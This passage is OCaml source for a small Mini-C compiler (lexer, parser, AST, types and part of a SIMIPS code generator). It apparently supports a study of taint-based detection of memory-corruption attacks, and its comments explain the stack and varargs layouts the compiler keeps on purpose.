  | _ -> false

let rec pp ppf = function
  | Void -> Format.pp_print_string ppf "void"
  | Int -> Format.pp_print_string ppf "int"
  | Uint -> Format.pp_print_string ppf "unsigned"
  | Char -> Format.pp_print_string ppf "char"
  | Ptr t -> Format.fprintf ppf "%a*" pp t
  | Array (t, n) -> Format.fprintf ppf "%a[%d]" pp t n
  | Struct s -> Format.fprintf ppf "struct %s" s
  | Func { ret; params; varargs } ->
    Format.fprintf ppf "%a(%a%s)" pp ret
      (Format.pp_print_list ~pp_sep:(fun ppf () -> Format.pp_print_string ppf ", ") pp)
      params
      (if varargs then ", ..." else "")
