(** Mini-C code generator.

    Emits SIMIPS assembly with the exact conventions the paper's
    attacks rely on:

    - all arguments are passed on the stack, pushed right-to-left, so
      a varargs implementation can walk past the named parameters into
      the caller's frame (the format-string [%n] mechanics);
    - each frame is laid out locals / saved FP / return address /
      incoming args from low to high addresses, so overflowing a local
      buffer upward reaches the frame pointer and the return address
      (the stack-smash mechanics of Figure 2);
    - [char] loads are unsigned ([LBU]), words little-endian.

    Registers: [$t0] accumulator, [$t1]/[$t2] scratch, result in
    [$v0]; [$at] is reserved for assembler pseudo-expansions. *)

exception Error of { line : int; message : string }

val generate : ?untaint_writeback:bool -> Cast.program -> string
(** Full assembly text (".text" and ".data" sections) for one
    translation unit.

    [untaint_writeback] (default true) models the register residency
    of an optimising compiler: when a named scalar variable is an
    operand of a comparison, the compared (and therefore
    hardware-untainted, Table 1 rule 4) register value is stored back
    to the variable's home location.  Without it, every later use
    would reload the still-tainted memory copy — behaviour no real
    [-O2] binary exhibits — which would both break the paper's
    zero-false-positive property and accidentally "fix" the Table 4(A)
    integer-overflow false negative.  Disable for ablation. *)
