(** Mini-C type system.

    A deliberately small C subset, but one faithful to the memory
    layouts the paper's attacks depend on: [char] is one byte, [int]
    and pointers four, arrays are contiguous, structs are laid out in
    declaration order.  [unsigned] exists because the integer-overflow
    false-negative scenario (Table 4(A)) hinges on signed/unsigned
    conversion. *)

type t =
  | Void
  | Int
  | Uint
  | Char
  | Ptr of t
  | Array of t * int
  | Struct of string
  | Func of signature

and signature = { ret : t; params : t list; varargs : bool }

type struct_layout = { fields : (string * t * int) list; size : int }
(** field name, type, byte offset *)

type env = (string, struct_layout) Hashtbl.t
(** Struct table. *)

val size_of : env -> t -> int
(** Size in bytes.  Raises [Invalid_argument] for [Void] and [Func]. *)

val align_of : env -> t -> int
val layout_struct : env -> (string * t) list -> struct_layout
val field : env -> string -> string -> (t * int) option
(** [field env struct_name field_name] *)

val is_integer : t -> bool
val is_pointer : t -> bool
val is_unsigned_cmp : t -> t -> bool
(** Whether a comparison between these operand types is unsigned
    (either side unsigned, or pointers). *)

val decay : t -> t
(** Array-to-pointer decay. *)

val equal : t -> t -> bool
val pp : Format.formatter -> t -> unit
