(** Mini-C lexer. *)

type token =
  | INT of int
  | STRING of string
  | IDENT of string
  | KW of string       (** int char void unsigned struct if else while for do
                           return break continue sizeof *)
  | PUNCT of string    (** operators and separators, longest-match *)
  | EOF

type lexeme = { tok : token; line : int }

exception Error of { line : int; message : string }

val tokenize : string -> lexeme list
val pp_token : Format.formatter -> token -> unit
