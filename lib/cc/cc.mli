(** Mini-C compiler driver. *)

exception Error of { line : int; message : string; phase : string }

val compile_to_asm : ?untaint_writeback:bool -> string -> string
(** Compile one translation unit (multiple source strings may simply
    be concatenated by the caller) to SIMIPS assembly text.  See
    {!Cgen.generate} for [untaint_writeback]. *)

val compile :
  ?untaint_writeback:bool -> ?extra_asm:string list -> string -> Ptaint_asm.Program.t
(** Compile and assemble.  [extra_asm] fragments (e.g. a runtime's
    crt0 and syscall stubs) are appended to the generated assembly. *)
