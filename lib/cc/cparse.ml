open Cast

exception Error of { line : int; message : string }

type state = { mutable toks : Clexer.lexeme list }

let fail_at line message = raise (Error { line; message })

let peek st = match st.toks with [] -> assert false | l :: _ -> l
let line st = (peek st).Clexer.line

let advance st =
  match st.toks with [] -> assert false | _ :: rest -> st.toks <- rest

let next st =
  let l = peek st in
  advance st;
  l

let fail st message = fail_at (line st) message

let is_punct st p =
  match (peek st).Clexer.tok with Clexer.PUNCT q -> p = q | _ -> false

let is_kw st k = match (peek st).Clexer.tok with Clexer.KW q -> k = q | _ -> false

let eat_punct st p =
  if is_punct st p then advance st
  else fail st (Format.asprintf "expected '%s', found '%a'" p Clexer.pp_token (peek st).Clexer.tok)

let eat_kw st k =
  if is_kw st k then advance st else fail st (Printf.sprintf "expected '%s'" k)

let ident st =
  match (next st).Clexer.tok with
  | Clexer.IDENT s -> s
  | t -> fail st (Format.asprintf "expected identifier, found '%a'" Clexer.pp_token t)

(* --- types --- *)

let is_type_start st =
  match (peek st).Clexer.tok with
  | Clexer.KW ("int" | "char" | "void" | "unsigned" | "struct") -> true
  | _ -> false

let rec base_type st : Ctypes.t =
  match (next st).Clexer.tok with
  | Clexer.KW "int" -> Ctypes.Int
  | Clexer.KW "char" -> Ctypes.Char
  | Clexer.KW "void" -> Ctypes.Void
  | Clexer.KW "unsigned" ->
    if is_kw st "int" then begin advance st; Ctypes.Uint end
    else if is_kw st "char" then begin advance st; Ctypes.Char end
    else Ctypes.Uint
  | Clexer.KW "struct" -> Ctypes.Struct (ident st)
  | t -> fail st (Format.asprintf "expected type, found '%a'" Clexer.pp_token t)

and pointers st ty = if is_punct st "*" then begin advance st; pointers st (Ctypes.Ptr ty) end else ty

and parse_type st = pointers st (base_type st)

(* Parameter list after '(' has been consumed; returns (types+names, varargs). *)
and params st =
  if is_punct st ")" then begin advance st; ([], false) end
  else if is_kw st "void" && (match st.toks with
    | _ :: { Clexer.tok = Clexer.PUNCT ")"; _ } :: _ -> true
    | _ -> false)
  then begin
    advance st;
    advance st;
    ([], false)
  end
  else
    let rec go acc =
      if is_punct st "..." then begin
        advance st;
        eat_punct st ")";
        (List.rev acc, true)
      end
      else begin
        let ty = parse_type st in
        let ty, name =
          if is_punct st "(" then begin
            (* function-pointer parameter: ty ( *name )(params) *)
            advance st;
            eat_punct st "*";
            let name = ident st in
            eat_punct st ")";
            eat_punct st "(";
            let ptypes, va = params st in
            (Ctypes.Ptr (Ctypes.Func { ret = ty; params = List.map fst ptypes; varargs = va }), name)
          end
          else
            let name =
              match (peek st).Clexer.tok with
              | Clexer.IDENT s -> advance st; s
              | _ -> ""
            in
            (* array parameters decay *)
            let ty =
              if is_punct st "[" then begin
                advance st;
                (match (peek st).Clexer.tok with
                 | Clexer.INT _ -> advance st
                 | _ -> ());
                eat_punct st "]";
                Ctypes.Ptr ty
              end
              else ty
            in
            (ty, name)
        in
        let acc = (ty, name) :: acc in
        if is_punct st "," then begin advance st; go acc end
        else begin
          eat_punct st ")";
          (List.rev acc, false)
        end
      end
    in
    go []

(* --- expressions --- *)

let mk line e = { e; eline = line }

let rec expr st = assign st

and assign st =
  let lhs = conditional st in
  match (peek st).Clexer.tok with
  | Clexer.PUNCT (("=" | "+=" | "-=" | "*=" | "/=" | "%=" | "&=" | "|=" | "^=" | "<<=" | ">>=") as op) ->
    let l = line st in
    advance st;
    let rhs = assign st in
    mk l (Assign (op, lhs, rhs))
  | _ -> lhs

and conditional st =
  let c = logical_or st in
  if is_punct st "?" then begin
    let l = line st in
    advance st;
    let t = expr st in
    eat_punct st ":";
    let f = conditional st in
    mk l (Cond (c, t, f))
  end
  else c

and logical_or st =
  let rec go acc =
    if is_punct st "||" then begin
      let l = line st in
      advance st;
      let rhs = logical_and st in
      go (mk l (Or (acc, rhs)))
    end
    else acc
  in
  go (logical_and st)

and logical_and st =
  let rec go acc =
    if is_punct st "&&" then begin
      let l = line st in
      advance st;
      let rhs = binary st 3 in
      go (mk l (And (acc, rhs)))
    end
    else acc
  in
  go (binary st 3)

(* Precedence-climbing for | ^ & == != < <= > >= << >> + - * / % *)
and prec_of = function
  | "|" -> 3 | "^" -> 4 | "&" -> 5
  | "==" | "!=" -> 6
  | "<" | "<=" | ">" | ">=" -> 7
  | "<<" | ">>" -> 8
  | "+" | "-" -> 9
  | "*" | "/" | "%" -> 10
  | _ -> -1

and binary st min_prec =
  let lhs = ref (unary st) in
  let continue = ref true in
  while !continue do
    match (peek st).Clexer.tok with
    | Clexer.PUNCT op when prec_of op >= min_prec && prec_of op > 0 ->
      let l = line st in
      advance st;
      let rhs = binary st (prec_of op + 1) in
      lhs := mk l (Binop (op, !lhs, rhs))
    | _ -> continue := false
  done;
  !lhs

and unary st =
  let l = line st in
  match (peek st).Clexer.tok with
  | Clexer.PUNCT "-" -> advance st; mk l (Unop ("-", unary st))
  | Clexer.PUNCT "!" -> advance st; mk l (Unop ("!", unary st))
  | Clexer.PUNCT "~" -> advance st; mk l (Unop ("~", unary st))
  | Clexer.PUNCT "*" -> advance st; mk l (Deref (unary st))
  | Clexer.PUNCT "&" -> advance st; mk l (Addr (unary st))
  | Clexer.PUNCT "++" -> advance st; mk l (Incdec { pre = true; op = "++"; arg = unary st })
  | Clexer.PUNCT "--" -> advance st; mk l (Incdec { pre = true; op = "--"; arg = unary st })
  | Clexer.KW "sizeof" ->
    advance st;
    eat_punct st "(";
    if is_type_start st then begin
      let ty = parse_type st in
      eat_punct st ")";
      mk l (Sizeof_type ty)
    end
    else begin
      let e = expr st in
      eat_punct st ")";
      mk l (Sizeof_expr e)
    end
  | Clexer.PUNCT "(" when (match st.toks with
      | _ :: { Clexer.tok = Clexer.KW ("int" | "char" | "void" | "unsigned" | "struct"); _ } :: _ ->
        true
      | _ -> false) ->
    (* cast *)
    advance st;
    let ty = parse_type st in
    eat_punct st ")";
    mk l (Cast (ty, unary st))
  | _ -> postfix st

and postfix st =
  let rec go acc =
    let l = line st in
    match (peek st).Clexer.tok with
    | Clexer.PUNCT "(" ->
      advance st;
      let args =
        if is_punct st ")" then begin advance st; [] end
        else
          let rec collect acc =
            let a = assign st in
            if is_punct st "," then begin advance st; collect (a :: acc) end
            else begin
              eat_punct st ")";
              List.rev (a :: acc)
            end
          in
          collect []
      in
      go (mk l (Call (acc, args)))
    | Clexer.PUNCT "[" ->
      advance st;
      let idx = expr st in
      eat_punct st "]";
      go (mk l (Index (acc, idx)))
    | Clexer.PUNCT "." ->
      advance st;
      go (mk l (Member (acc, ident st)))
    | Clexer.PUNCT "->" ->
      advance st;
      go (mk l (Arrow (acc, ident st)))
    | Clexer.PUNCT "++" ->
      advance st;
      go (mk l (Incdec { pre = false; op = "++"; arg = acc }))
    | Clexer.PUNCT "--" ->
      advance st;
      go (mk l (Incdec { pre = false; op = "--"; arg = acc }))
    | _ -> acc
  in
  go (primary st)

and primary st =
  let l = line st in
  match (next st).Clexer.tok with
  | Clexer.INT n -> mk l (Num n)
  | Clexer.STRING s ->
    (* adjacent string literals concatenate *)
    let rec more acc =
      match (peek st).Clexer.tok with
      | Clexer.STRING s2 -> advance st; more (acc ^ s2)
      | _ -> acc
    in
    mk l (Str (more s))
  | Clexer.IDENT name -> mk l (Var name)
  | Clexer.PUNCT "(" ->
    let e = expr st in
    eat_punct st ")";
    e
  | t -> fail_at l (Format.asprintf "unexpected token '%a' in expression" Clexer.pp_token t)

(* --- statements --- *)

let rec stmt st : stmt =
  let l = line st in
  let s k = { s = k; sline = l } in
  if is_punct st "{" then s (Sblock (block st))
  else if is_kw st "if" then begin
    advance st;
    eat_punct st "(";
    let c = expr st in
    eat_punct st ")";
    let then_ = stmt_as_list st in
    let else_ =
      if is_kw st "else" then begin
        advance st;
        stmt_as_list st
      end
      else []
    in
    s (Sif (c, then_, else_))
  end
  else if is_kw st "while" then begin
    advance st;
    eat_punct st "(";
    let c = expr st in
    eat_punct st ")";
    s (Swhile (c, stmt_as_list st))
  end
  else if is_kw st "do" then begin
    advance st;
    let body = stmt_as_list st in
    eat_kw st "while";
    eat_punct st "(";
    let c = expr st in
    eat_punct st ")";
    eat_punct st ";";
    s (Sdo (body, c))
  end
  else if is_kw st "for" then begin
    advance st;
    eat_punct st "(";
    let init =
      if is_punct st ";" then begin advance st; None end
      else if is_type_start st then Some (decl_stmt st)
      else begin
        let e = expr st in
        eat_punct st ";";
        Some { s = Sexpr e; sline = l }
      end
    in
    let cond =
      if is_punct st ";" then begin advance st; None end
      else begin
        let e = expr st in
        eat_punct st ";";
        Some e
      end
    in
    let step =
      if is_punct st ")" then begin advance st; None end
      else begin
        let e = expr st in
        eat_punct st ")";
        Some e
      end
    in
    s (Sfor (init, cond, step, stmt_as_list st))
  end
  else if is_kw st "switch" then begin
    advance st;
    eat_punct st "(";
    let scrutinee = expr st in
    eat_punct st ")";
    eat_punct st "{";
    let case_value () =
      match (next st).Clexer.tok with
      | Clexer.INT n -> n
      | Clexer.PUNCT "-" -> (
        match (next st).Clexer.tok with
        | Clexer.INT n -> -n
        | _ -> fail st "expected case constant")
      | _ -> fail st "expected case constant"
    in
    let rec cases acc =
      if is_punct st "}" then begin
        advance st;
        List.rev acc
      end
      else if is_kw st "case" then begin
        advance st;
        let v = case_value () in
        eat_punct st ":";
        cases ((Some v, body []) :: acc)
      end
      else if is_kw st "default" then begin
        advance st;
        eat_punct st ":";
        cases ((None, body []) :: acc)
      end
      else fail st "expected 'case', 'default' or '}'"
    and body acc =
      if is_punct st "}" || is_kw st "case" || is_kw st "default" then List.rev acc
      else body (stmt st :: acc)
    in
    s (Sswitch (scrutinee, cases []))
  end
  else if is_kw st "return" then begin
    advance st;
    if is_punct st ";" then begin
      advance st;
      s (Sreturn None)
    end
    else begin
      let e = expr st in
      eat_punct st ";";
      s (Sreturn (Some e))
    end
  end
  else if is_kw st "break" then begin
    advance st;
    eat_punct st ";";
    s Sbreak
  end
  else if is_kw st "continue" then begin
    advance st;
    eat_punct st ";";
    s Scontinue
  end
  else if is_type_start st then decl_stmt st
  else begin
    let e = expr st in
    eat_punct st ";";
    s (Sexpr e)
  end

and stmt_as_list st = match stmt st with { s = Sblock body; _ } -> body | other -> [ other ]

(* A local declaration: type declarator [= init] (',' declarator [= init])* ';'
   Multiple declarators are desugared into a block of single decls. *)
and decl_stmt st : stmt =
  let l = line st in
  let base = base_type st in
  let one () =
    let ty = pointers st base in
    if is_punct st "(" then begin
      advance st;
      eat_punct st "*";
      let name = ident st in
      let array_len =
        if is_punct st "[" then begin
          advance st;
          match (next st).Clexer.tok with
          | Clexer.INT n ->
            eat_punct st "]";
            Some n
          | _ -> fail st "expected array size"
        end
        else None
      in
      eat_punct st ")";
      eat_punct st "(";
      let ptypes, va = params st in
      let fptr = Ctypes.Ptr (Ctypes.Func { ret = ty; params = List.map fst ptypes; varargs = va }) in
      let ty = match array_len with Some n -> Ctypes.Array (fptr, n) | None -> fptr in
      let init = if is_punct st "=" then begin advance st; Some (Iexpr (assign st)) end else None in
      (ty, name, init)
    end
    else begin
      let name = ident st in
      let ty =
        let rec arrays ty =
          if is_punct st "[" then begin
            advance st;
            let n =
              match (next st).Clexer.tok with
              | Clexer.INT n -> n
              | _ -> fail st "expected array size"
            in
            eat_punct st "]";
            Ctypes.Array (arrays ty, n)
          end
          else ty
        in
        arrays ty
      in
      let init =
        if is_punct st "=" then begin
          advance st;
          if is_punct st "{" then begin
            advance st;
            let rec items acc =
              if is_punct st "}" then begin advance st; List.rev acc end
              else begin
                let e = assign st in
                if is_punct st "," then begin advance st; items (e :: acc) end
                else begin
                  eat_punct st "}";
                  List.rev (e :: acc)
                end
              end
            in
            Some (Ilist (items []))
          end
          else
            match ((peek st).Clexer.tok, ty) with
            | Clexer.STRING s, Ctypes.Array (Ctypes.Char, _) ->
              advance st;
              Some (Istring s)
            | _ -> Some (Iexpr (assign st))
        end
        else None
      in
      (ty, name, init)
    end
  in
  let first = one () in
  let rec more acc =
    if is_punct st "," then begin
      advance st;
      more (one () :: acc)
    end
    else begin
      eat_punct st ";";
      List.rev acc
    end
  in
  match more [ first ] with
  | [ (ty, name, init) ] -> { s = Sdecl (ty, name, init); sline = l }
  | decls ->
    { s = Sseq (List.map (fun (ty, name, init) -> { s = Sdecl (ty, name, init); sline = l }) decls);
      sline = l }

and block st =
  eat_punct st "{";
  let rec go acc =
    if is_punct st "}" then begin
      advance st;
      List.rev acc
    end
    else go (stmt st :: acc)
  in
  go []

(* --- top level --- *)

let global_init st ty =
  if is_punct st "=" then begin
    advance st;
    if is_punct st "{" then begin
      advance st;
      let rec items acc =
        if is_punct st "}" then begin advance st; List.rev acc end
        else begin
          let e = assign st in
          if is_punct st "," then begin advance st; items (e :: acc) end
          else begin
            eat_punct st "}";
            List.rev (e :: acc)
          end
        end
      in
      Some (Ilist (items []))
    end
    else
      match ((peek st).Clexer.tok, ty) with
      | Clexer.STRING s, Ctypes.Array (Ctypes.Char, _) ->
        advance st;
        Some (Istring s)
      | _ -> Some (Iexpr (assign st))
  end
  else None

let top st : top option =
  let l = line st in
  if (peek st).Clexer.tok = Clexer.EOF then None
  else if is_punct st ";" then begin
    advance st;
    None
  end
  else if
    is_kw st "struct"
    && (match st.toks with
        | _ :: { Clexer.tok = Clexer.IDENT _; _ } :: { Clexer.tok = Clexer.PUNCT "{"; _ } :: _ ->
          true
        | _ -> false)
  then begin
    advance st;
    let name = ident st in
    eat_punct st "{";
    let rec fields acc =
      if is_punct st "}" then begin
        advance st;
        eat_punct st ";";
        List.rev acc
      end
      else begin
        let base = base_type st in
        let rec one_field acc =
          let ty = pointers st base in
          if is_punct st "(" then begin
            advance st;
            eat_punct st "*";
            let fname = ident st in
            eat_punct st ")";
            eat_punct st "(";
            let ptypes, va = params st in
            let ty =
              Ctypes.Ptr (Ctypes.Func { ret = ty; params = List.map fst ptypes; varargs = va })
            in
            if is_punct st "," then begin advance st; one_field ((fname, ty) :: acc) end
            else begin
              eat_punct st ";";
              List.rev ((fname, ty) :: acc)
            end
          end
          else begin
            let fname = ident st in
            let rec arrays ty =
              if is_punct st "[" then begin
                advance st;
                let n =
                  match (next st).Clexer.tok with
                  | Clexer.INT n -> n
                  | _ -> fail st "expected array size"
                in
                eat_punct st "]";
                Ctypes.Array (arrays ty, n)
              end
              else ty
            in
            let ty = arrays ty in
            if is_punct st "," then begin advance st; one_field ((fname, ty) :: acc) end
            else begin
              eat_punct st ";";
              List.rev ((fname, ty) :: acc)
            end
          end
        in
        fields (List.rev (one_field []) @ acc)
      end
    in
    Some (Tstruct { name; fields = fields [] })
  end
  else begin
    let base = base_type st in
    let ty = pointers st base in
    if is_punct st "(" then begin
      (* function-pointer global: ty ( *name )(params), optionally an array *)
      advance st;
      eat_punct st "*";
      let name = ident st in
      let array_len =
        if is_punct st "[" then begin
          advance st;
          match (next st).Clexer.tok with
          | Clexer.INT n ->
            eat_punct st "]";
            Some n
          | _ -> fail st "expected array size"
        end
        else None
      in
      eat_punct st ")";
      eat_punct st "(";
      let ptypes, va = params st in
      let fptr = Ctypes.Ptr (Ctypes.Func { ret = ty; params = List.map fst ptypes; varargs = va }) in
      let ty = match array_len with Some n -> Ctypes.Array (fptr, n) | None -> fptr in
      let init = global_init st ty in
      eat_punct st ";";
      Some (Tglobal { ty; name; init; gline = l })
    end
    else begin
      let name = ident st in
      if is_punct st "(" then begin
        advance st;
        let ps, varargs = params st in
        if is_punct st ";" then begin
          advance st;
          Some (Tproto { ret = ty; name; params = List.map fst ps; varargs })
        end
        else begin
          let body = block st in
          Some (Tfunc { ret = ty; name; params = ps; varargs; body; fline = l })
        end
      end
      else begin
        let rec arrays ty =
          if is_punct st "[" then begin
            advance st;
            let n =
              match (next st).Clexer.tok with
              | Clexer.INT n -> n
              | _ -> fail st "expected array size"
            in
            eat_punct st "]";
            Ctypes.Array (arrays ty, n)
          end
          else ty
        in
        let ty = arrays ty in
        let init = global_init st ty in
        eat_punct st ";";
        Some (Tglobal { ty; name; init; gline = l })
      end
    end
  end

let parse source =
  let st = { toks = Clexer.tokenize source } in
  let rec go acc =
    if (peek st).Clexer.tok = Clexer.EOF then List.rev acc
    else
      match top st with
      | Some t -> go (t :: acc)
      | None -> go acc
  in
  go []
