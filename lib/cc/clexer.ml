type token =
  | INT of int
  | STRING of string
  | IDENT of string
  | KW of string
  | PUNCT of string
  | EOF

type lexeme = { tok : token; line : int }

exception Error of { line : int; message : string }

let keywords =
  [ "int"; "char"; "void"; "unsigned"; "struct"; "if"; "else"; "while"; "for"; "do";
    "return"; "break"; "continue"; "sizeof"; "switch"; "case"; "default" ]

(* Three-, two- then one-character punctuators, longest match first. *)
let puncts3 = [ "<<="; ">>="; "..." ]

let puncts2 =
  [ "=="; "!="; "<="; ">="; "&&"; "||"; "<<"; ">>"; "+="; "-="; "*="; "/="; "%=";
    "&="; "|="; "^="; "++"; "--"; "->" ]

let puncts1 =
  [ "+"; "-"; "*"; "/"; "%"; "="; "<"; ">"; "!"; "&"; "|"; "^"; "~"; "("; ")"; "{"; "}";
    "["; "]"; ";"; ","; "."; "?"; ":" ]

let pp_token ppf = function
  | INT n -> Format.fprintf ppf "%d" n
  | STRING s -> Format.fprintf ppf "%S" s
  | IDENT s | KW s | PUNCT s -> Format.pp_print_string ppf s
  | EOF -> Format.pp_print_string ppf "<eof>"

let is_ident_start c = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c = '_'
let is_digit c = c >= '0' && c <= '9'
let is_ident_char c = is_ident_start c || is_digit c

let escape line = function
  | 'n' -> '\n'
  | 't' -> '\t'
  | 'r' -> '\r'
  | '0' -> '\000'
  | '\\' -> '\\'
  | '"' -> '"'
  | '\'' -> '\''
  | c -> raise (Error { line; message = Printf.sprintf "unknown escape \\%c" c })

let tokenize source =
  let n = String.length source in
  let out = ref [] in
  let line = ref 1 in
  let i = ref 0 in
  let emit tok = out := { tok; line = !line } :: !out in
  let peek k = if !i + k < n then Some source.[!i + k] else None in
  let starts_with s =
    !i + String.length s <= n && String.sub source !i (String.length s) = s
  in
  while !i < n do
    let c = source.[!i] in
    if c = '\n' then begin incr line; incr i end
    else if c = ' ' || c = '\t' || c = '\r' then incr i
    else if starts_with "//" then begin
      while !i < n && source.[!i] <> '\n' do incr i done
    end
    else if starts_with "/*" then begin
      i := !i + 2;
      while !i < n && not (starts_with "*/") do
        if source.[!i] = '\n' then incr line;
        incr i
      done;
      if !i >= n then raise (Error { line = !line; message = "unterminated comment" });
      i := !i + 2
    end
    else if is_ident_start c then begin
      let j = ref !i in
      while !j < n && is_ident_char source.[!j] do incr j done;
      let word = String.sub source !i (!j - !i) in
      emit (if List.mem word keywords then KW word else IDENT word);
      i := !j
    end
    else if is_digit c then begin
      let j = ref !i in
      if starts_with "0x" || starts_with "0X" then begin
        j := !i + 2;
        while
          !j < n
          && (is_digit source.[!j]
             || (source.[!j] >= 'a' && source.[!j] <= 'f')
             || (source.[!j] >= 'A' && source.[!j] <= 'F'))
        do
          incr j
        done
      end
      else while !j < n && is_digit source.[!j] do incr j done;
      let text = String.sub source !i (!j - !i) in
      (match int_of_string_opt text with
       | Some v -> emit (INT v)
       | None -> raise (Error { line = !line; message = "bad integer " ^ text }));
      i := !j
    end
    else if c = '"' then begin
      let buf = Buffer.create 16 in
      incr i;
      let rec go () =
        if !i >= n then raise (Error { line = !line; message = "unterminated string" })
        else if source.[!i] = '"' then incr i
        else if source.[!i] = '\\' then begin
          (if peek 1 = Some 'x' then begin
             if !i + 3 >= n then raise (Error { line = !line; message = "bad \\x" });
             Buffer.add_char buf (Char.chr (int_of_string ("0x" ^ String.sub source (!i + 2) 2)));
             i := !i + 4
           end
           else begin
             (match peek 1 with
              | Some e -> Buffer.add_char buf (escape !line e)
              | None -> raise (Error { line = !line; message = "trailing backslash" }));
             i := !i + 2
           end);
          go ()
        end
        else begin
          if source.[!i] = '\n' then incr line;
          Buffer.add_char buf source.[!i];
          incr i;
          go ()
        end
      in
      go ();
      emit (STRING (Buffer.contents buf))
    end
    else if c = '\'' then begin
      if peek 1 = Some '\\' then begin
        match (peek 2, peek 3) with
        | Some 'x', _ ->
          (match (peek 3, peek 4, peek 5) with
           | Some h1, Some h2, Some '\'' ->
             emit (INT (int_of_string (Printf.sprintf "0x%c%c" h1 h2)));
             i := !i + 6
           | _ -> raise (Error { line = !line; message = "bad char literal" }))
        | Some e, Some '\'' ->
          emit (INT (Char.code (escape !line e)));
          i := !i + 4
        | _ -> raise (Error { line = !line; message = "bad char literal" })
      end
      else
        match (peek 1, peek 2) with
        | Some ch, Some '\'' ->
          emit (INT (Char.code ch));
          i := !i + 3
        | _ -> raise (Error { line = !line; message = "bad char literal" })
    end
    else
      match List.find_opt starts_with puncts3 with
      | Some p ->
        emit (PUNCT p);
        i := !i + 3
      | None -> (
        match List.find_opt starts_with puncts2 with
        | Some p ->
          emit (PUNCT p);
          i := !i + 2
        | None ->
          let s = String.make 1 c in
          if List.mem s puncts1 then begin
            emit (PUNCT s);
            incr i
          end
          else raise (Error { line = !line; message = Printf.sprintf "unexpected character %C" c }))
  done;
  emit EOF;
  List.rev !out
