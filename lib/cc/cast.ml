(* Mini-C abstract syntax.  Nodes carry source lines for error
   reporting and for mapping alerts back to guest source. *)

type expr = { e : expr_kind; eline : int }

and expr_kind =
  | Num of int
  | Str of string
  | Var of string
  | Unop of string * expr              (* - ! ~ *)
  | Binop of string * expr * expr
  | Assign of string * expr * expr     (* "=", "+=", ... *)
  | Cond of expr * expr * expr
  | And of expr * expr
  | Or of expr * expr
  | Call of expr * expr list
  | Index of expr * expr
  | Deref of expr
  | Addr of expr
  | Member of expr * string
  | Arrow of expr * string
  | Cast of Ctypes.t * expr
  | Sizeof_type of Ctypes.t
  | Sizeof_expr of expr
  | Incdec of { pre : bool; op : string; arg : expr }

type init = Iexpr of expr | Ilist of expr list | Istring of string

type stmt = { s : stmt_kind; sline : int }

and stmt_kind =
  | Sexpr of expr
  | Sdecl of Ctypes.t * string * init option
  | Sif of expr * stmt list * stmt list
  | Swhile of expr * stmt list
  | Sdo of stmt list * expr
  | Sfor of stmt option * expr option * expr option * stmt list
  | Sreturn of expr option
  | Sbreak
  | Scontinue
  | Sblock of stmt list
  | Sseq of stmt list
      (** like [Sblock] but without a scope — a multi-declarator line *)
  | Sswitch of expr * (int option * stmt list) list
      (** cases in source order with C fallthrough; [None] = default *)

type top =
  | Tfunc of {
      ret : Ctypes.t;
      name : string;
      params : (Ctypes.t * string) list;
      varargs : bool;
      body : stmt list;
      fline : int;
    }
  | Tproto of { ret : Ctypes.t; name : string; params : Ctypes.t list; varargs : bool }
  | Tglobal of { ty : Ctypes.t; name : string; init : init option; gline : int }
  | Tstruct of { name : string; fields : (string * Ctypes.t) list }

type program = top list
