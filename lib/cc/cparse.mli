(** Mini-C recursive-descent parser. *)

exception Error of { line : int; message : string }

val parse : string -> Cast.program
(** Raises {!Error} (or {!Clexer.Error}) on malformed input. *)
