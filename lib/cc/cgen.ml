open Cast

exception Error of { line : int; message : string }

let fail line message = raise (Error { line; message })

type binding =
  | Local of int * Ctypes.t (* offset below fp: address = fp - off *)
  | Param of int * Ctypes.t (* address = fp + off *)
  | Global of string * Ctypes.t

type state = {
  structs : Ctypes.env;
  globals : (string, Ctypes.t) Hashtbl.t;
  strings : (string, string) Hashtbl.t; (* literal -> label *)
  mutable string_order : (string * string) list; (* label, literal (reverse) *)
  mutable label_counter : int;
  text : Buffer.t;
  data : Buffer.t;
  untaint_writeback : bool;
}

type fstate = {
  st : state;
  fname : string;
  ret : Ctypes.t;
  mutable scopes : (string * binding) list list;
  mutable frame : int;       (* current local allocation, bytes below fp *)
  mutable max_frame : int;
  body : Buffer.t;
  epilogue : string;
  mutable breaks : string list;
  mutable continues : string list;
}

let align_up v a = (v + a - 1) land lnot (a - 1)

let new_label st prefix =
  st.label_counter <- st.label_counter + 1;
  Printf.sprintf "_%s%d" prefix st.label_counter

let string_label st s =
  match Hashtbl.find_opt st.strings s with
  | Some l -> l
  | None ->
    let l = new_label st "Str" in
    Hashtbl.replace st.strings s l;
    st.string_order <- (l, s) :: st.string_order;
    l

let emit fs fmt = Printf.ksprintf (fun s -> Buffer.add_string fs.body ("        " ^ s ^ "\n")) fmt
let emit_label fs l = Buffer.add_string fs.body (l ^ ":\n")

(* --- bindings --- *)

let lookup fs name =
  let rec in_scopes = function
    | [] -> None
    | scope :: rest -> (
      match List.assoc_opt name scope with Some b -> Some b | None -> in_scopes rest)
  in
  match in_scopes fs.scopes with
  | Some b -> Some b
  | None -> (
    match Hashtbl.find_opt fs.st.globals name with
    | Some ty -> Some (Global (name, ty))
    | None -> None)

let bind fs name b =
  match fs.scopes with
  | scope :: rest -> fs.scopes <- ((name, b) :: scope) :: rest
  | [] -> assert false

let alloc_local fs line ty =
  let size =
    try Ctypes.size_of fs.st.structs ty
    with Invalid_argument m -> fail line m
  in
  fs.frame <- align_up (fs.frame + size) 4;
  if fs.frame > fs.max_frame then fs.max_frame <- fs.frame;
  fs.frame

(* --- stack discipline: $t0 accumulator --- *)

let push fs =
  emit fs "addiu $sp, $sp, -4";
  emit fs "sw $t0, 0($sp)"

let pop1 fs =
  emit fs "lw $t1, 0($sp)";
  emit fs "addiu $sp, $sp, 4"

(* --- type helpers --- *)

let size_of fs line ty =
  try Ctypes.size_of fs.st.structs ty with Invalid_argument m -> fail line m

let elem_size fs line ty =
  match Ctypes.decay ty with
  | Ctypes.Ptr (Ctypes.Void | Ctypes.Func _) -> 1
  | Ctypes.Ptr elt -> size_of fs line elt
  | _ -> fail line "pointer arithmetic on non-pointer"

let load_width ty = match ty with Ctypes.Char -> `Byte | _ -> `Word

let emit_load fs ty =
  (* address in $t0 -> value in $t0 *)
  match load_width ty with
  | `Byte -> emit fs "lbu $t0, 0($t0)"
  | `Word -> emit fs "lw $t0, 0($t0)"

let emit_store fs ty =
  (* value in $t0, address in $t1 *)
  match load_width ty with
  | `Byte -> emit fs "sb $t0, 0($t1)"
  | `Word -> emit fs "sw $t0, 0($t1)"

